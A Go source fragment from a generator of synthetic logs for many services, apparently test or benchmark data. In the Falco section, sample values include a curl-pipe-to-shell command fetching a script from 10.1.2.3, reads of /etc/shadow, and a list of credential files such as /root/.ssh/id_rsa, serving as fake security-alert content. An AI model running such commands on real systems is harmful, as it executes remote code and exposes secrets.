		{name: "FreeSWITCH", format: `<Date> <Time> <Idle> \[<Level>\] <Content>`, header: func(g *gen, c string) string {
			f := pickN(c, [][]string{
				{"New Channel", "NOTICE"}, {"Close Channel", "NOTICE"}, {"Hangup", "NOTICE"}, {"receiving invite", "INFO"}, {"REPORTS ERROR", "ERR"},
				{"SIP auth failure", "WARNING"}, {"Cannot create outgoing", "ERR"}, {"Registered", "INFO"}, {"SIP auth challenge", "DEBUG"},
			}, "DEBUG")
			return fmt.Sprintf("2026-12-%02d %02d:%02d:%02d.%06d %.2f%% [%s] %s", 1+g.r.IntN(28), g.r.IntN(24), g.r.IntN(60), g.r.IntN(60), g.r.IntN(1000000), 85+g.r.Float64()*14.9, f[0], c)
		}, events: []event{
			{140, `switch_channel.c:1123 New Channel {x10vchan} [{uuid}]`},
			{110, `switch_core_session.c:1770 Close Channel {x10vchan} [{pick:CS_DESTROY}]`},
			{120, `switch_core_state_machine.c:581 ({x10vchan}) Running State Change {x10vcs} (Cur {small} Tot {int})`},
			{140, `switch_core_state_machine.c:600 ({x10vchan}) State {pick:NEW|INIT|ROUTING|EXECUTE|HANGUP|REPORTING|DESTROY}`},
			{100, `mod_sofia.c:5121 ({x10vchan}) State Change {x10vcs} -> {x10vcsto}`},
			{80, `mod_sofia.c:97 {x10vchan} SOFIA {pick:INIT|ROUTING|EXECUTE|HANGUP|DESTROY}`},
			{90, `switch_channel.c:2332 ({x10vchan}) Callstate Change {x10vcall} -> {x10vcallto}`},
			{100, `sofia.c:10462 {x10vchan} receiving invite from {ip}:{x10vport} version: {pick:1.10.7-release  64bit|1.10.9-release  64bit|1.10.11-release  64bit} call-id: {x10vcallid}`},
			{100, `sofia.c:7499 Channel {x10vchan} entering state [{pick:received|calling|proceeding|early|completed|ready|terminated}][{pick:100|180|183|200|487}]`},
			{60, `sofia.c:2419 detaching session {uuid}`},
			{60, `sofia.c:2532 Re-attaching to session {uuid}`},
			{80, `switch_core_media.c:3883 Set Codec {x10vchan} {x10vcodec}/{x10vrate} {pick:20|20|30} ms {x10vsamples} samples {x10vbits} bits {pick:1|1|2} channels`},
			{80, `switch_core_media.c:8787 AUDIO RTP [{x10vchan}] {ip} port {x10vport} -> {ip} port {x10vport} codec: {pick:0|8|9|102} ms: {pick:20|20|30}`},
			{50, `switch_rtp.c:4619 Starting timer [{pick:soft}] {pick:160|320|960} bytes per {pick:20|30}ms`},
			{90, `switch_core_state_machine.c:611 {x10vchan} Hangup {x10vchansame} [{pick:CS_EXECUTE|CS_CONSUME_MEDIA|CS_EXCHANGE_MEDIA}] [{pick:NORMAL_CLEARING|NORMAL_CLEARING|ORIGINATOR_CANCEL|NO_ANSWER|USER_BUSY|RECOVERY_ON_TIMER_EXPIRE}]`},
			{60, `switch_rtp.c:7589 AUDIO RTP REPORTS ERROR: [{pick:Remote Address Error!|Socket Error!|Media Timeout!}]`},
			{70, `sofia_reg.c:1851 SIP auth failure (REGISTER) on sofia profile '{pick:internal|external}' for [{x10vext}@{pick:pbx.example.com|10.0.3.5}] from ip {ip}`},
			{50, `sofia_reg.c:2026 SIP auth challenge (REGISTER) on sofia profile '{pick:internal|external}' for [{x10vext}@{pick:pbx.example.com|10.0.3.5}] from ip {ip}`},
			{40, `switch_ivr_originate.c:3898 Cannot create outgoing channel of type [{pick:sofia|loopback|user}] cause: [{pick:USER_NOT_REGISTERED|SUBSCRIBER_ABSENT|DESTINATION_OUT_OF_ORDER}]`},
		}},
		// Cyrus IMAP through syslog (imap, pop3, lmtpunix, master,
		// ctl_cyrusdb, smmapd): "login: %s [%s] %s %s User logged in
		// SESSIONID=<%s>" and "client id: %s" (quoted in cyrusimap/
		// cyrus-imapd issue #2070), "compression enabled sessionid=<%s>
		// userid=<%s> algorithm=<%s>" (PR #4585), "auditlog: duplicate
		// sessionid=<%s> action=<%s> message-id=%s user=<%s> date=<%s>"
		// and smmapd's "auditlog: ok userid=<%s> client=<%s>" (issue
		// #2814); the badlogin, starttls, USAGE, Delivered, Expunged,
		// master's process and ctl_cyrusdb checkpoint lines written from
		// knowledge of the format.
		{name: "CyrusImap", format: syslog10, header: func(g *gen, c string) string {
			f := pickN(c, [][]string{
				{"^Delivered:", "lmtpunix"}, {"auditlog: duplicate", "lmtpunix"}, {"^process type:", "master"}, {"^about to exec", "master"},
				{"checkpoint", "ctl_cyrusdb"}, {"archiving", "ctl_cyrusdb"}, {"auditlog: ok", "smmapd"}, {"^accepted connection", "imap"},
			}, "imap")
			prog := f[0]
			if prog == "imap" && g.r.IntN(8) == 0 {
				prog = "pop3"
			}
			return sysHeader(g, prog, g.pick("imap1", "mail.example.edu", "imap-b"), c)
		}, events: []event{
			{300, `login: {x10yhost} [{ip}] {x10yuser} {pick:plaintext|plaintext+TLS|PLAIN|LOGIN|XOAUTH2} User logged in SESSIONID=<{x10ysess}>`},
			{70, `badlogin: {x10yhost} [{ip}] {pick:plaintext|PLAIN|LOGIN} {x10yuser} [{pick:SASL(-13): authentication failure: checkpass failed|SASL(-13): user not found: checkpass failed|SASL(-1): generic failure: Password verification failed}]`},
			{200, `accepted connection`},
			{120, `client id: {x10yclientid}`},
			{120, `starttls: {pick:TLSv1.3|TLSv1.2} with cipher {pick:TLS_AES_256_GCM_SHA384|ECDHE-RSA-AES256-GCM-SHA384|TLS_CHACHA20_POLY1305_SHA256} ({pick:256/256|128/128} bits {pick:new|reused}) no authentication`},
			{70, `compression enabled sessionid=<{x10ysess}> userid=<{x10yuser}> algorithm=<{pick:DEFLATE}>`},
			{160, `USAGE {x10yuser} user: {x10ysecs} sys: {x10ysecs}`},
			{180, `Delivered: <{x10ymsgid}> to mailbox: {x10ymbox}`},
			{60, `auditlog: duplicate sessionid=<{x10ysess}> action=<{pick:check|mark}> message-id=<{x10ymsgid}> user=<{x10ymbox}> date=<{int}>`},
			{80, `Expunged {int} messages from {x10ymbox}`},
			{160, `process type:SERVICE name:{pick:imap|imaps|pop3|lmtpunix} path:{pick:/usr/lib/cyrus/bin/imapd|/usr/lib/cyrus/bin/pop3d|/usr/lib/cyrus/bin/lmtpd} age:{x10yage}s pid:{pid} exited, status {pick:0|0|0|75}`},
			{60, `about to exec {pick:/usr/lib/cyrus/bin/imapd|/usr/lib/cyrus/bin/pop3d|/usr/lib/cyrus/bin/lmtpd}`},
			{30, `checkpointing cyrus databases`},
			{30, `done checkpointing cyrus databases`},
			{25, `archiving database file: {pick:/var/lib/cyrus/annotations.db|/var/lib/cyrus/mailboxes.db|/var/lib/cyrus/deliver.db}`},
			{50, `auditlog: ok userid=<{x10ymail}> client=<{ip}>`},
		}},
		// Kamailio through syslog ("LEVEL: module [file:line]: function():
		// message", <core> for the core, <script> for the routing
		// script's xlog, the transaction's "{cseq method callid}" before
		// the module when set): tcp_read_data's "error reading: %s (%d)
		// ([%s]:%d -> [%s]:%d)" and tcp_read_req's "ERROR: tcp_read_req:
		// error reading - c: %p r: %p (%d)" (quoted in kamailio/kamailio
		// issue #4238), handle_new_connect's "error while accepting
		// connection(%d): %s" (#3983), tcp_init's "bind(%x, %p, %d) on
		// %s:%d : %s" (#3027), msg_send_buffer's "tcp_send failed" and
		// send2child's "tcp child %d, socket %d: queue full, %d requests
		// queued (total handled %d)" (#3599), send_fd_queue_run's "send_fd
		// failed on socket %d , queue entry %d, retries %d, connection %p,
		// tcp socket %d, errno=%d (%s)" (#2806), an xlog line "request
		// sent to %s completed with code: %d, Type %d" (herlesupreeth/
		// Kamailio_IMS_Config issue #6); the tm, dispatcher and sanity
		// lines written from knowledge of the format.
		{name: "Kamailio", format: syslog10, header: func(g *gen, c string) string {
			return sysHeader(g, "kamailio", g.pick("sip1", "sbc-edge-2", "proxy3"), c)
		}, events: []event{
			{260, `ERROR: <core> [core/tcp_read.c:297]: tcp_read_data(): error reading: {x10kerr} ({x10kerrno}) ([{ip}]:{port} -> [{ip}]:{pick:5060|5061|5260})`},
			{200, `ERROR: <core> [core/tcp_read.c:1556]: tcp_read_req(): ERROR: tcp_read_req: error reading - c: {x10kptr} r: {x10kptr} ({pick:-1})`},
			{120, `CRITICAL: <core> [core/tcp_main.c:4170]: send2child(): tcp child {pick:0|1|4|6|11}, socket {int}: queue full, {int} requests queued (total handled {big})`},
			{90, `ERROR: <core> [core/tcp_main.c:3508]: send_fd_queue_run(): send_fd failed on socket {int} , queue entry {small}, retries {int}, connection {x10kptr}, tcp socket {int}, errno={x10kerrno2} ({x10kerr2})`},
			{80, `ERROR: <core> [core/tcp_main.c:3955]: handle_new_connect(): error while accepting connection({x10kerrno2}): {x10kerr2}`},
			{110, `CRITICAL: {{x10kcseq} {pick:INVITE|INVITE|REGISTER|BYE|OPTIONS} {x10kcallid}} tm [../../core/forward.h:292]: msg_send_buffer(): tcp_send failed`},
			{110, `ERROR: {{x10kcseq} {pick:INVITE|REGISTER|BYE} {x10kcallid}} tm [t_fwd.c:1514]: t_send_branch(): sending request on branch {pick:0|0|1} failed`},
			{120, `ERROR: <script>: request sent to {x10kruri} completed with code: {pick:408|408|486|503|480}, Type {pick:1|2}`},
			{70, `ERROR: dispatcher [dispatch.c:2323]: ds_next_dst(): no destination set for group {pick:1|2}`},
			{60, `WARNING: dispatcher [dispatch.c:3378]: ds_ping_reply_callback(): {x10kruri}: {x10kcode} ({x10kphrase})`},
			{30, `ERROR: sanity [sanity.c:726]: check_cl(): content length header missing in request`},
			{20, `ERROR: sanity [sanity.c:599]: check_via_protocol(): unsupported transport protocol`},
			{15, `ERROR: <core> [core/tcp_main.c:3101]: tcp_init(): bind({x10kfd}, {x10kptr}, 16) on {ip}:{pick:5060|5061} : Address already in use`},
			{15, `INFO: <core> [main.c:3003]: main(): processes (at least): {pick:41|25|73} - shm size: {pick:268435456|134217728} - pkg size: {pick:8388608}`},
		}},
		// A Node.js service's Winston log (winston 3, format.combine(
		// format.timestamp(), format.json()) with defaultMeta {service}):
		// written from knowledge of the format, no source looked up —
		// the message a format string with the values a template literal
		// puts into it, a request line from morgan's combined format
		// streamed into logger.info (the whole line values and the
		// trailing newline morgan writes), an error logged as
		// logger.error(err) (the error's message as the message, its
		// stack a value).
		{name: "Winston", format: `<Content>`, header: bare, events: []event{
			{420, winston("info", `{x10wmorgan}`, ``)},
			{150, winston("info", `Order {int} created for customer {uuid}`, `"orderId":{int},"total":{x10wmoney},`)},
			{120, winston("debug", `cache {pick:hit|miss} for key {x10wkey}`, ``)},
			{110, winston("warn", `Slow query on {pick:orders|users|carts|inventory} took {int}ms`, `"query":"{x10wquery}",`)},
			{100, winston("error", `{x10werr}`, `"stack":"{x10wstack}",`)},
			{90, winston("http", `{method} {x10wurl} {x10wstatus} {int}ms`, `"requestId":"{uuid}",`)},
			{80, winston("warn", `Retrying request to {pick:payments|inventory|email}-service (attempt {pick:1|2|3} of 3)`, `"delay":{int},`)},
			{70, winston("info", `Job {x10wjob} completed in {int}ms`, `"jobId":"{uuid}","queue":"{pick:emails|reports|exports}",`)},
			{60, winston("error", `Job {x10wjob} failed: {x10werr}`, `"jobId":"{uuid}","attempts":{small},`)},
			{40, winston("info", `User {x10wuser} logged in`, `"ip":"{ip}",`)},
			{40, winston("warn", `Invalid login attempt for {x10wuser}`, `"ip":"{ip}","reason":"{pick:bad_password|unknown_user|locked}",`)},
			{15, winston("info", `Server listening on port {pick:3000|8080|4000}`, ``)},
			{15, winston("info", `Connected to {pick:MongoDB|PostgreSQL|Redis} at {x10wdsn}`, ``)},
			{10, winston("info", `Received {pick:SIGTERM|SIGINT}, shutting down gracefully`, ``)},
		}},
	}
}

// fluentdErrors are error classes with a message each raises.
var fluentdErrors = [][2]string{
	{"Errno::ECONNREFUSED", `Connection refused - connect(2) for \"elasticsearch.logging.svc\" port 9200`},
	{"Errno::ECONNRESET", "Connection reset by peer"},
	{"Fluent::Plugin::ForwardOutput::NoNodesAvailable", "no nodes are available"},
	{"Net::ReadTimeout", "Net::ReadTimeout"},
	{"Fluent::Plugin::ElasticsearchOutput::RecoverableRequestFailure", `could not push logs to Elasticsearch cluster ({:host=>\"es-master\", :port=>9200, :scheme=>\"http\"}): read timeout reached`},
	{"Aws::S3::Errors::RequestTimeout", "Your socket connection to the server was not read from or written to within the timeout period."},
	{"Fluent::Plugin::Buffer::BufferOverflowError", "buffer space has too many data"},
}

// smtpdResults are OpenSMTPD delivery results with a stat each gives.
var smtpdResults = [][2]string{
	{"Ok", "250 2.0.0 Ok: queued as 4Q1bYk0Xz1z9tG"}, {"Ok", "250 2.0.0 OK  1733219000 a1-20020a05600c"}, {"Ok", "250 2.6.0 Message received"},
	{"TempFail", "Connection refused"}, {"TempFail", "421 4.7.0 Try again later, closing connection."},
	{"PermFail", "550 5.1.1 The email account that you tried to reach does not exist."}, {"PermFail", "554 5.7.1 Service unavailable; Client host blocked using zen.spamhaus.org"},
}

// channelStates are FreeSWITCH's channel states, each with the next one.
var channelStates = [][2]string{
	{"CS_NEW", "CS_INIT"}, {"CS_INIT", "CS_ROUTING"}, {"CS_ROUTING", "CS_EXECUTE"}, {"CS_EXECUTE", "CS_HANGUP"},
	{"CS_HANGUP", "CS_REPORTING"}, {"CS_REPORTING", "CS_DESTROY"}, {"CS_EXECUTE", "CS_EXCHANGE_MEDIA"}, {"CS_CONSUME_MEDIA", "CS_EXECUTE"},
}

// callStates are FreeSWITCH's call states, each with the next one.
var callStates = [][2]string{
	{"DOWN", "RINGING"}, {"RINGING", "ACTIVE"}, {"DOWN", "EARLY"}, {"EARLY", "ACTIVE"}, {"ACTIVE", "HANGUP"}, {"RINGING", "HANGUP"}, {"ACTIVE", "HELD"}, {"HELD", "ACTIVE"},
}

// errnos10 are errno values with their strerror text.
var errnos10 = [][2]string{
	{"110", "Connection timed out"}, {"104", "Connection reset by peer"}, {"11", "Resource temporarily unavailable"}, {"22", "Invalid argument"},
	{"113", "No route to host"}, {"32", "Broken pipe"}, {"24", "Too many open files"},
}

// holdout10 slots: values of the tenth held-out families.
func (g *gen) holdout10(kind string) (string, bool) {
	r := g.r
	switch kind {
	// CouchDB
	case "x10cnonce":
		return g.hexN(10), true
	case "x10chost":
		return g.pick("localhost:5984", "couch.example.com:5984", "127.0.0.1:5984", "10.0.2.15:5984", "couchdb:5984"), true
	case "x10cuser":
		return g.pick("undefined", "undefined", "admin", "sync_user", "obsidian", "app"), true
	case "x10cpath":
		db := g.pick("orders", "notes", "userdb-616c696365", "inventory", "_users", "_replicator")
		return g.pick("/_session", "/_all_dbs", "/_utils/", "/_up", "/"+db, "/"+db+"/_changes?feed=longpoll&since=now&heartbeat=30000",
			"/"+db+"/_changes?style=all_docs&since="+strconv.Itoa(r.IntN(9000))+"-"+g.b62(20)+"&limit=100",
			"/"+db+"/"+g.hexN(32), "/"+db+"/_bulk_docs", "/"+db+"/_revs_diff", "/"+db+"/_local/"+g.b62(22),
			"/"+db+"/_design/app/_view/by_date?limit=20&descending=true"), true
	case "x10cstatus":
		return g.pick("200", "200", "200", "201", "201", "304", "401", "404", "409", "412"), true
	case "x10capp":
		return g.pick("couch_log", "folsom", "couch_epi", "ibrowse", "jiffy", "mango", "setup", "snappy", "smoosh", "ken", "recon", "global_changes", "couch_replicator"), true
	case "x10cnode":
		return g.pick("couchdb@127.0.0.1", "nonode@nohost", "couchdb@localhost"), true
	case "x10cdb":
		return g.pick("_nodes", "_dbs", "_users", "_replicator", "_global_changes"), true
	case "x10copen":
		return g.pick("{not_found,no_db_file}", "{not_found,no_db_file}", "{error,eacces}", "{error,enoent}"), true
	case "x10cfile":
		return g.pick("./data/_nodes.couch", "./data/_dbs.couch", "/opt/couchdb/data/_users.couch",
			fmt.Sprintf("/opt/couchdb/data/shards/%s/%s.%d.couch", g.pick("00000000-7fffffff", "80000000-ffffffff"), g.pick("orders", "notes", "_users"), 1733000000+r.IntN(900000))), true
	case "x10cpid":
		return fmt.Sprintf("<0.%d.0>", 200+r.IntN(30000)), true
	case "x10cexit":
		db := g.pick(`"_users"`, `<<"_users">>`, `<<"_replicator">>`)
		return g.pick(
			`{database_does_not_exist,[{mem3_shards,load_shards_from_db,`+db+`,[{file,"src/mem3_shards.erl"},{line,`+strconv.Itoa(400+r.IntN(50))+`}]},{mem3_shards,load_shards_from_disk,1,[{file,"src/mem3_shards.erl"},{line,378}]}]}`,
			`{{badmatch,{error,file_exists}},[{couch_server,handle_call,3,[{file,"src/couch_server.erl"},{line,`+strconv.Itoa(300+r.IntN(90))+`}]}]}`,
			`{timeout,{gen_server,call,[couch_server,{open,<<"`+g.pick("orders", "notes")+`">>,[]}]}}`), true
	case "x10cdied":
		return g.pick("database_does_not_exist", "database_does_not_exist", "{timeout,{gen_server,call,[couch_server,{open,<<\"_users\">>,[]}]}}"), true
	case "x10cstack":
		return fmt.Sprintf("mem3_shards:load_shards_from_db/6(line:%d) <= mem3_shards:load_shards_from_disk/1(line:%d) <= mem3_shards:load_shards_from_disk/2(line:%d) <= mem3_shards:for_docid/3(line:%d) <= fabric_doc_open:go/3(line:38) <= chttpd_auth_cache:ensure_auth_ddoc_exists/2(line:%d) <= chttpd_auth_cache:listen_for_changes/1(line:%d)",
			g.pickInt(403, 445), g.pickInt(378, 420), g.pickInt(407, 449), g.pickInt(91, 100), g.pickInt(187, 210), g.pickInt(134, 156)), true
	case "x10cmfa":
		return g.pick("mem3_nodes:start_link()", "mem3_shards:start_link()", "chttpd_auth_cache:start_link()"), true
	case "x10cat":
		if r.IntN(2) == 0 {
			return "undefined", true
		}
		return g.value("x10cpid"), true
	case "x10creason":
		return g.pick("no case clause matching {error,eacces} at mem3_util:ensure_exists/1(line:344) <= mem3_nodes:initialize_nodelist/0(line:110)",
			"no case clause matching {error,enospc} at mem3_util:ensure_exists/1(line:344) <= mem3_nodes:initialize_nodelist/0(line:110)",
			"shutdown", "killed"), true
	case "x10cshard":
		return fmt.Sprintf("shards/%s/%s.%d", g.pick("00000000-7fffffff", "80000000-ffffffff", "00000000-1fffffff", "e0000000-ffffffff"), g.pick("orders", "notes", "_users", "inventory", "userdb-626f62"), 1733000000+r.IntN(900000)), true

	// Fluentd
	case "x10fw":
		g.h10[1] = g.pick("0", "0", "0", "1", "2", "3")
		return g.h10[1], true
	case "x10fwsame":
		return g.h10[1], true
	case "x10fretry":
		return strconv.Itoa(r.IntN(18)), true
	case "x10fts":
		if r.IntN(3) == 0 {
			return fmt.Sprintf("2026-12-%02d %02d:%02d:%02d.%06d +0000", 1+r.IntN(28), r.IntN(24), r.IntN(60), r.IntN(60), r.IntN(1000000)), true
		}
		return fmt.Sprintf("2026-12-%02d %02d:%02d:%02d +0000", 1+r.IntN(28), r.IntN(24), r.IntN(60), r.IntN(60)), true
	case "x10fchunk":
		return g.hexN(32), true
	case "x10ferrclass": // an error's class; its message (x10ferr) follows
		e := fluentdErrors[r.IntN(len(fluentdErrors))]
		g.h10[0] = e[1]
		return e[0], true
	case "x10ferr":
		return g.h10[0], true
	case "x10felapsed":
		return strconv.FormatFloat(10+r.Float64()*90, 'f', -1, 64), true
	case "x10fplugin":
		return g.pick("object:3ff5ba380870", "object:2ab4c9e1f0d4", "out_es", "out_s3_archive", "forward_to_aggregator"), true
	case "x10fline":
		return g.pick("", "2026/12/03 10:14:07 [error] 31#31: *5521 upstream timed out (110: Connection timed out) while reading response header from upstream",
			"Exception in thread main java.lang.IllegalStateException: pool closed", "    at com.acme.orders.OrderService.place(OrderService.java:88)",
			"I1203 10:14:07.123456       1 leaderelection.go:258] successfully acquired lease kube-system/kube-controller-manager",
			"{\\\"ts\\\":1733220847.12,\\\"level\\\":\\\"info\\\"", "    raise ValueError(msg)", "[notice] 2026-12-03T10:14:07Z nonode@nohost <0.1.0> -------- started"), true
	case "x10ftag":
		return g.pick("kubernetes.var.log.containers.orders-7d9f8b6c5d-x2k4p_prod_orders-"+g.hexN(12)+".log", "nginx.access", "nginx.error", "app.orders", "systemd.kubelet", "fluent.info"), true
	case "x10fpath":
		return g.pick("/var/log/containers/"+g.value("pod")+"_"+g.value("ns")+"_"+g.value("container")+"-"+g.hexN(16)+".log",
			"/var/log/nginx/access.log", "/var/log/nginx/error.log", "/var/log/syslog", "/var/log/app/orders.log", "/var/log/td-agent/buffer/test"), true
	case "x10frecord":
		return g.pick(`{"log"=>"`+g.pick("GET /healthz 200", "")+`", "stream"=>"stdout", "time"=>"2026-12-03T10:14:07.123456789Z"}`,
			`{"message"=>"user login", "status"=>"ok", "host"=>"web-01"}`, `{"status"=>"n/a", "bytes"=>"-"}`), true
	case "x10fcmd":
		return g.pick(`["/usr/bin/ruby", "-Eascii-8bit:ascii-8bit", "/usr/sbin/td-agent", "--log", "/var/log/td-agent/td-agent.log", "--daemon", "/var/run/td-agent/td-agent.pid", "--under-supervisor"]`,
			`["/usr/local/bin/ruby", "-Eascii-8bit:ascii-8bit", "/usr/local/bundle/bin/fluentd", "-c", "/fluentd/etc/fluent.conf", "-p", "/fluentd/plugins", "--under-supervisor"]`), true
	case "x10fpattern":
		return g.pick("**", "kubernetes.**", "app.*", "nginx.*", "fluent.**", "systemd.**"), true

	// OpenSMTPD
	case "x10osess":
		return g.hexN(16), true
	case "x10oaddr":
		if r.IntN(6) == 0 {
			return "local", true
		}
		return g.value("ip"), true
	case "x10ohost":
		return g.pick("mail-wr1-f54.google.com", "wout1-smtp.messagingengine.com", "localhost", "<unknown>", "mx.example.net", "a48-101.smtp-out.amazonses.com", "relay.mailbox.org"), true
	case "x10ocipher":
		return g.pick("TLSv1.3:TLS_AES_256_GCM_SHA384:256", "TLSv1.3:TLS_AES_128_GCM_SHA256:128", "TLSv1.2:ECDHE-RSA-AES256-GCM-SHA384:256", "TLSv1.3:TLS_CHACHA20_POLY1305_SHA256:256"), true
	case "x10omsgid":
		return g.hexN(8), true
	case "x10oevpid":
		return g.hexN(16), true
	case "x10omail":
		if r.IntN(10) == 0 {
			return "", true
		}
		return g.pick(users...) + "@" + g.pick("example.org", "example.com", "mail.example.net", "lists.example.org"), true
	case "x10ocmd":
		return g.pick("RCPT TO:<"+g.value("x10omail")+">", "MAIL FROM:<"+g.value("x10omail")+"> SIZE=20480", "AUTH LOGIN", "STARTTLS", "DATA", "XCLIENT ADDR=10.0.0.1",
			"RCPT TO:<nonexistent@example.org> ORCPT=nonexistent@example.org"), true
	case "x10oresult":
		return g.pick("550 Invalid recipient: <"+g.value("x10omail")+">", "535 Authentication failed", "503 5.5.1 Invalid command: Command not allowed at this point.",
			"421 4.7.0 Rate limit exceeded", "530 5.5.1 Invalid command: Must issue a STARTTLS command first"), true
	case "x10ouser":
		return g.pick(users...), true
	case "x10omta":
		return g.pick("smtp://", "smtp+tls://", "smtps://") + g.value("ip") + ":" + g.pick("25", "25", "587", "465"), true
	case "x10odelay":
		if r.IntN(3) == 0 {
			return fmt.Sprintf("%dm%ds", r.IntN(59), r.IntN(60)), true
		}
		return fmt.Sprintf("%ds", r.IntN(60)), true
	case "x10odres": // a delivery's result; its stat (x10odstat) follows
		e := smtpdResults[r.IntN(len(smtpdResults))]
		g.h10[0] = e[1]
		return e[0], true
	case "x10odstat":
		return g.h10[0], true

	// Salt minion
	case "x10sfun":
		return g.pick("state.apply", "state.highstate", "saltutil.find_job", "test.ping", "cmd.run", "grains.items", "pkg.upgrade", "saltutil.sync_all", "service.restart"), true
	case "x10sjid":
		return fmt.Sprintf("202612%02d%02d%02d%02d%06d", 1+r.IntN(28), r.IntN(24), r.IntN(60), r.IntN(60), r.IntN(1000000)), true
	case "x10sdetails":
		return fmt.Sprintf("{'tgt_type': '%s', 'jid': '%s', 'tgt': '%s', 'ret': '', 'user': '%s', 'arg': [%s], 'fun': '%s'}",
			g.pick("glob", "list", "compound"), g.value("x10sjid"), g.pick("*", "web*", "G@role:db"), g.pick("root", "saltapi"), g.pick("", "'nginx'", "'"+g.value("x10sjid")+"'"), g.value("x10sfun")), true
	case "x10sret":
		return fmt.Sprintf("{'fun_args': [%s], 'jid': '%s', 'return': %s, 'retcode': %d, 'success': %s, 'fun': '%s'}",
			g.pick("", "'nginx'"), g.value("x10sjid"), g.pick("True", "{}", "'41M\\t.'", "{'tgt_type': 'glob', 'jid': '"+g.value("x10sjid")+"'}"), g.pickInt(0, 0, 1), g.pick("True", "True", "False"), g.value("x10sfun")), true
	case "x10sname":
		return g.pick("/etc/nginx/nginx.conf", "nginx", "/etc/ntp.conf", "vim", "/srv/app/releases", "chronyd", "deploy", "/etc/ssh/sshd_config", "git clone https://git.example.com/app.git /srv/app"), true
	case "x10stime":
		return fmt.Sprintf("%02d:%02d:%02d.%06d", r.IntN(24), r.IntN(60), r.IntN(60), r.IntN(1000000)), true
	case "x10sstate":
		return g.pick("file.managed", "pkg.installed", "service.running", "cmd.run", "user.present", "file.directory", "git.latest"), true
	case "x10sms":
		return strconv.FormatFloat(r.Float64()*4000, 'f', 3, 64), true
	case "x10sfile":
		return g.pick("/etc/nginx/nginx.conf", "/etc/ntp.conf", "/etc/ssh/sshd_config", "/etc/sysctl.d/99-salt.conf", "/srv/app/.env"), true
	case "x10sfail":
		return g.pick("Unable to manage file: [Errno 2] No such file or directory: '/srv/salt/nginx/files/nginx.conf'",
			"The named service nginx is not available", "Failed to install packages: E: Unable to locate package libfoo-dev",
			"Command \"systemctl restart app\" run", "Source file salt://app/files/env.jinja not found in saltenv 'base'"), true
	case "x10scmd":
		return g.pick("'systemctl is-active nginx'", "['git', '--version']", "'dpkg-query --showformat='${Status} ${Package} ${Version}\\n' -W'", "'/usr/sbin/service nginx reload'", "['systemctl', 'is-enabled', 'chronyd.service']"), true
	case "x10stag":
		return g.pick("salt/job/"+g.value("x10sjid")+"/ret/"+g.value("x10sid"), "__master_req_channel_payload", "minion_start", "salt/minion/"+g.value("x10sid")+"/start"), true
	case "x10sdata":
		return fmt.Sprintf("{'jid': '%s', 'retcode': 0, 'success': True, '_stamp': '2026-12-%02dT%02d:%02d:%02d.%06d', 'fun': '%s', 'id': '%s'}",
			g.value("x10sjid"), 1+r.IntN(28), r.IntN(24), r.IntN(60), r.IntN(60), r.IntN(1000000), g.value("x10sfun"), g.value("x10sid")), true
	case "x10sid":
		return g.pick("web1.example.com", "db-02", "minion-host-03", "build-agent-7", "lb1"), true

	// md RAID
	case "x10mmd":
		return g.pick("md0", "md0", "md1", "md2", "md127", "md126"), true
	case "x10mdev":
		return g.pick("sda1", "sdb1", "sdb3", "sdc", "sdd1", "nvme0n1p2", "nvme1n1p2"), true
	case "x10msize":
		return strconv.Itoa(1021952 + 1024*r.IntN(4000000)), true
	case "x10mrange":
		s := r.IntN(900000000)
		return fmt.Sprintf("%d-%d", s, s+8), true
	case "x10mpath":
		return g.pick("/dev/md0", "/dev/md/0", "/dev/md1", "/dev/md/1", "/dev/md127", "/dev/md/data"), true
	case "x10mcomp":
		return "/dev/" + g.value("x10mdev"), true

	// Akka
	case "x10aclass":
		return g.pick("akka.actor.ReceiveTimeout$", "com.acme.orders.OrderActor$PlaceOrder", "akka.cluster.ClusterHeartbeatSender$Heartbeat",
			"akka.dispatch.sysmsg.Terminate", "scala.collection.immutable.$colon$colon", "akka.io.Tcp$Write", "com.acme.orders.Ack$"), true
	case "x10aref":
		return fmt.Sprintf("akka://%s/%s#%d", g.pick("orders", "ClusterSystem"), g.pick("user/orderRouter/$a", "user/orders/"+strconv.Itoa(r.IntN(99999)), "deadLetters", "system/IO-TCP/selectors/$a/"+strconv.Itoa(r.IntN(40)), "user/worker-"+strconv.Itoa(r.IntN(16))), int32(r.Uint32())), true
	case "x10adead":
		return strconv.Itoa(1 + r.IntN(9)), true
	case "x10aaddr":
		return fmt.Sprintf("%s://%s@10.0.3.%d:%s", g.pick("akka", "akka", "akka.tcp"), g.pick("orders", "ClusterSystem"), 2+r.IntN(30), g.pick("25520", "2552")), true
	case "x10auid":
		return strconv.FormatInt(r.Int64()-r.Int64(), 10), true

	// OpenWrt
	case "x10uif":
		return g.pick("lan", "wan", "wan6", "wan_6", "loopback", "guest", "wwan", "vpn0"), true
	case "x10udevtype":
		return g.pick("Network device", "Network device", "bridge", "VLAN", "Network alias"), true
	case "x10udev":
		return g.pick("eth0", "eth1", "br-lan", "lo", "pppoe-wan", "wan.201", "eth1.3", "phy0-ap0", "wlan0", "lan1"), true
	case "x10uproto":
		return g.pick("udhcpc: started, v1.36.1", "udhcpc: broadcasting discover", "udhcpc: broadcasting select for "+g.value("ip")+", server "+g.value("ip"),
			"udhcpc: lease of "+g.value("ip")+" obtained from "+g.value("ip")+", lease time "+g.pick("86400", "3600", "43200"), "uci: Entry not found", "sh: out of range",
			"udhcpc: no lease, failing"), true
	case "x10uduid":
		return "0001" + g.hexN(24), true
	case "x10uaddr6":
		if r.IntN(5) == 0 {
			return "", true
		}
		return fmt.Sprintf("fd%02x:%x:%x::%x/128", r.IntN(256), r.IntN(65536), r.IntN(65536), r.IntN(65536)), true

	// Falco
	case "x10xuser":
		return g.pick("root", "root", "<NA>", "www-data", "nobody", "ubuntu", "1001"), true
	case "x10xluid":
		return g.pick("-1", "-1", "1000", "0"), true
	case "x10xprog":
		return g.pick("cat", "python3", "sshd", "bash", "node", "9", "sudo", "java", "vim", "cmp", "runc:[2:INIT]"), true
	case "x10xcmd":
		return g.pick("cat /etc/shadow", "python3 /app/worker.py", "sshd -D -R", "bash -c curl -s http://10.1.2.3/x.sh | sh", "node /srv/app/index.js",
			"9 --deserialize 88 --log-level info --log-target journal-or-kmsg", "cmp -s shadow.bak /etc/shadow", "vim /etc/passwd", "sudo -i", "kubectl get pods -A"), true
	case "x10xsens":
		return g.pick("/etc/shadow", "/etc/shadow", "/etc/sudoers", "/etc/pam.d/common-auth", "/etc/gshadow", "/root/.ssh/id_rsa"), true
	case "x10xanc":
		return g.pick("<NA>", "<NA>", "systemd", "containerd-shim", "sshd", "bash", "runc", "cron"), true
